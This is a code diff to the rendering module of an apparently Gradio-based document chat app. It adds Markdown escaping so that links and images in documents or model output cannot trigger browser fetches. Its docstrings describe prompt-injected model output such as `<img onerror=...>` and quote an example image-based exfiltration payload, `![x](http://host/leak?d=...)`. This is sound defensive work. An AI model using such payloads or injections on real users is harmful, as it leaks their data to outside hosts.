@@ -4,11 +4,15 @@ Document text and model output are untrusted: a PDF can contain `<script>` and a
 be talked into writing `<img onerror=...>`. Everything that reaches the browser passes
 through `html.escape` here, so such text is shown as text. gr.HTML renders its value as
 raw HTML, and the chatbot's own sanitiser would silently drop the tags rather than show
-them, so escaping is done by us and the sanitiser stays on as a second layer.
+them, so escaping is done by us and the sanitiser stays on as a second layer. Markdown
+adds one more way out: an image or link in a document would make the reader's browser
+fetch from another host, so no Markdown link or image survives (`markdown`), and the
+page's Content-Security-Policy (ui/security.py) blocks remote images and scripts anyway.
 """
 
 from __future__ import annotations
 
+import re
 from collections.abc import Sequence
 from html import escape
 
@@ -18,6 +22,7 @@ from ui.corpus import CollectionInfo
 from ui.session import SessionState, SessionTotals, Turn
 from ui.uploads import UploadResult
 
+_LINK_TARGET = re.compile(r"\](?=[(\[:])")
 ROUTE_LABELS = {
     "flash": "Flash",
     "pro": "escalated to Pro",
@@ -34,9 +39,20 @@ OFFLINE_BANNER = (
 
 
 def text(value: str) -> str:
-    """Untrusted text made inert for Markdown or HTML: `<`, `>` and `&` become entities,
-    which Markdown renders back as the literal characters."""
+    """Untrusted text made inert for HTML: `<`, `>` and `&` become entities."""
     return escape(value, quote=True)
+
+
+def markdown(value: str) -> str:
+    """Untrusted text made inert for Markdown (the chat, the upload summary): `<`, `>` and
+    `&` escaped as by `text` (not quotes: no attribute is built from it), and no Markdown
+    link or image left in it. A document line such as `![x](http://host/leak?d=...)`
+    would otherwise load from that host with no click. Every
+    link, image, reference and definition needs a `]` directly followed by `(`, `[` or `:`;
+    a word joiner (invisible) goes between them, also inside code, where it changes nothing
+    a reader sees. The text is then shown as written; a bare http(s) URL or e-mail address
+    still becomes a link (GFM), which the browser follows only when clicked."""
+    return _LINK_TARGET.sub("]\u2060", escape(value, quote=False))
 
 
 def usd(amount: float) -> str:
@@ -53,7 +69,7 @@ def route_label(route: Route) -> str:
 def answer_footer(record: AnswerRecord) -> str:
     tokens = f"{record.usage.total_tokens:,} tokens" + (" when first answered" if record.cached else "")
     parts = [
-        f"{text(record.route.model)} · {route_label(record.route)}",
+        f"{markdown(record.route.model)} · {route_label(record.route)}",
         tokens,
         f"first token {record.ttft_s:.2f} s",
         usd(record.cost_usd),
@@ -65,16 +81,16 @@ def answer_footer(record: AnswerRecord) -> str:
 
 def turn_messages(turn: Turn) -> list[dict[str, str]]:
     """One turn as the chatbot's two messages (user, assistant), escaped."""
-    body = text(turn.answer)
+    body = markdown(turn.answer)
     if turn.status == "streaming" and not body:
         body = "_Searching your documents…_"
     elif turn.status == "stopped":
         body = f"{body}\n\n_(stopped)_"
     elif turn.status == "error":
-        body = f"⚠️ {text(turn.error)}"
+        body = f"⚠️ {markdown(turn.error)}"
     elif turn.record is not None:
         body = f"{body}\n\n<sub>{answer_footer(turn.record)}</sub>"
-    return [{"role": "user", "content": text(turn.question)}, {"role": "assistant", "content": body}]
+    return [{"role": "user", "content": markdown(turn.question)}, {"role": "assistant", "content": body}]
 
 
 def chat_messages(state: SessionState) -> list[dict[str, str]]:
@@ -176,12 +192,12 @@ def upload_summary(result: UploadResult) -> str:
     report = result.report
     if report is not None:
         done = [f for f in report.files if f.status in (Status.ADDED, Status.UPDATED, Status.UNCHANGED)]
-        lines += [f"- ✅ {text(f.source)}: {f.status.value}, {f.chunks} chunks" for f in done]
-        lines += [f"- ❌ {text(f.source)}: {text(f.reason)}" for f in report.of(Status.FAILED)]
+        lines += [f"- ✅ {markdown(f.source)}: {f.status.value}, {f.chunks} chunks" for f in done]
+        lines += [f"- ❌ {markdown(f.source)}: {markdown(f.reason)}" for f in report.of(Status.FAILED)]
         if report.stopped:
-            lines.append(f"- ⚠️ {text(report.stopped)}")
+            lines.append(f"- ⚠️ {markdown(report.stopped)}")
         if report.cost_usd:
             lines.append(f"- Embedding cost: {usd(report.cost_usd)} ({report.tokens:,} tokens)")
-    lines += [f"- ❌ {text(reason)}" for reason in result.rejected]
-    collection = f" into collection **{text(report.collection)}**" if report else ""
+    lines += [f"- ❌ {markdown(reason)}" for reason in result.rejected]
+    collection = f" into collection **{markdown(report.collection)}**" if report else ""
     return f"Upload{collection}:\n\n" + "\n".join(lines) if lines else "Nothing was uploaded."
